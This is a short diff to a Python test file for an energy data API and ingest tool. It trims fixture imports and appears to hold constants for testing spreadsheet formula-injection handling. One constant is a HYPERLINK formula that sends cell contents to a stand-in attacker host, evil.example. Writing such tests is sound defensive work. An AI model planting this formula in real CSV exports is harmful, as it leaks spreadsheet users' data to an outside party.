@@ -11,7 +11,7 @@ from typing import Any
 
 import psycopg
 import pytest
-from api_helpers import add_point, add_readings, api_settings, app, client, db
+from api_helpers import add_point, add_readings
 from click.testing import CliRunner
 from flask.testing import FlaskClient
 from helpers import insight_report
@@ -19,7 +19,6 @@ from helpers import insight_report
 from energy_api import csvcells
 from energy_ingest.cli import main
 
-__all__ = ["api_settings", "app", "client", "db"]
 LINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 MODE = "+HALL.FAN.MODE"
 TEMP = "-HALL.OAT"
